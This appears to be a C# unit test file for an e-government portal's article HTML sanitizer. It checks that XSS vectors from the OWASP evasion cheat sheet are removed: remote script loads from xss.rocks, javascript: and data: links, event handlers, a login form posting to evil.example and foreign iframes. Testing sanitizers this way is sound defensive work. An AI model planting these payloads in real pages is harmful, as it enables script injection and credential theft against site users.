using EGov.Portal.Authoring.Html;

namespace EGov.UnitTests.Portal.Authoring;

/// <summary>Vectors from the OWASP XSS Filter Evasion Cheat Sheet and the usual article markup.</summary>
public sealed class ArticleHtmlSanitizerTests
{
    private static readonly ArticleHtmlSanitizer Sanitizer = new();

    private static string Clean(string html)
    {
        var result = Sanitizer.Sanitize(html);
        Assert.True(result.IsSuccess, result.Error?.Message);
        return result.Value;
    }

    [Theory]
    [InlineData("<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT><p>正文</p>")]
    [InlineData("<script>alert('XSS')</script><p>正文</p>")]
    [InlineData("<p>正文</p><<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>")]
    [InlineData("<p>正文</p><SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>")]
    [InlineData("<p>正文</p><STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE>")]
    [InlineData("<p>正文</p><OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>")]
    [InlineData("<p>正文</p><EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>")]
    [InlineData("<p>正文</p><form action=\"https://evil.example/\"><input name=\"p\"><button>登录</button></form>")]
    [InlineData("<p>正文</p><svg/onload=alert('XSS')>")]
    [InlineData("<p>正文</p><BODY ONLOAD=alert('XSS')>")]
    public void Scripts_styles_objects_embeds_and_forms_are_dropped_with_their_content(string html)
    {
        var clean = Clean(html);

        Assert.Contains("<p>正文</p>", clean, StringComparison.Ordinal);
        foreach (var word in new[] { "script", "style", "object", "embed", "form", "svg", "alert", "onload", "xss.rocks", "javascript" })
        {
            Assert.DoesNotContain(word, clean, StringComparison.OrdinalIgnoreCase);
        }
    }

    [Theory]
    [InlineData("<IMG SRC=\"javascript:alert('XSS');\" alt=\"图\">")]
    [InlineData("<IMG SRC=JaVaScRiPt:alert('XSS') alt=\"图\">")]
    [InlineData("<IMG SRC=\"jav&#x09;ascript:alert('XSS');\" alt=\"图\">")]
    [InlineData("<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41; alt=\"图\">")]
    [InlineData("<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"图\">")]
    [InlineData("<a href=\"javascript:alert(1)\">点我</a>")]
    [InlineData("<a href=\"JAVASCRIPT:alert(1)\">点我</a>")]
    [InlineData("<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">点我</a>")]
    [InlineData("<a href=\"vbscript:msgbox(1)\">点我</a>")]
    public void Javascript_and_data_addresses_are_removed(string html)
    {
        var clean = Clean(html);

        Assert.DoesNotContain("javascript", clean, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("data:", clean, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("vbscript", clean, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("&#106;", clean, StringComparison.OrdinalIgnoreCase);
    }

    [Theory]
    [InlineData("<p onclick=\"alert(1)\">正文</p>")]
    [InlineData("<p onmouseover=alert(1)>正文</p>")]
    [InlineData("<p style=\"background:url(javascript:alert(1))\">正文</p>")]
    [InlineData("<p class=\"x\" id=\"y\" data-x=\"1\">正文</p>")]
    public void Event_handlers_and_style_attributes_are_removed(string html)
        => Assert.Equal("<p>正文</p>", Clean(html));

    [Fact]
    public void Usual_article_markup_is_kept()
    {
        const string html = "<h2>一、总则</h2><h3>（一）</h3><h4>1.</h4><p><strong>重</strong><em>点</em><u>下</u><s>删</s><br></p><ul><li>甲</li></ul><ol><li>乙</li></ol>"
            + "<table><thead><tr><th scope=\"col\">项目</th></tr></thead><tbody><tr><td colspan=\"2\" rowspan=\"3\">数值</td></tr></tbody></table>"
            + "<blockquote>引文</blockquote><hr><figure><img src=\"/api/v1/attachments/1\" alt=\"示意图\" width=\"300\" height=\"200\"><figcaption>图1</figcaption></figure>"
            + "<p><a href=\"/sites/scjg/articles/1\">站内链接</a></p>";

        Assert.Equal(html, Clean(html));
    }

    [Fact]
    public void Links_to_other_hosts_open_without_access_to_the_page()
    {
        var clean = Clean("<p><a href=\"https://www.gov.cn/zhengce/\">中国政府网</a> <a href=\"/sites/scjg/\">本站</a></p>");

        Assert.Contains("<a href=\"https://www.gov.cn/zhengce/\" rel=\"noopener noreferrer\">中国政府网</a>", clean, StringComparison.Ordinal);
        Assert.Contains("<a href=\"/sites/scjg/\">本站</a>", clean, StringComparison.Ordinal);
    }

    [Fact]
    public void Frames_of_this_site_are_kept()
        => Assert.Contains("<iframe src=\"/sites/scjg/channels/sp\" title=\"视频\"></iframe>", Clean("<iframe src=\"/sites/scjg/channels/sp\" title=\"视频\"></iframe>"), StringComparison.Ordinal);

    [Theory]
    [InlineData("<iframe src=\"https://evil.example/\"></iframe>")]
    [InlineData("<iframe src=\"//evil.example/\"></iframe>")]
    [InlineData("<iframe src=\"/\\evil.example/\"></iframe>")]
    [InlineData("<iframe src=\"javascript:alert(1)\"></iframe>")]
    [InlineData("<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>")]
    [InlineData("<iframe></iframe>")]
    public void Foreign_frames_are_removed(string frame)
        => Assert.Equal("<p>正文</p>", Clean("<p>正文</p>" + frame));

    [Fact]
    public void Unknown_wrappers_give_way_to_their_text()
        => Assert.Equal("<p>字体</p>", Clean("<p><font color=\"red\">字体</font></p>"));
}
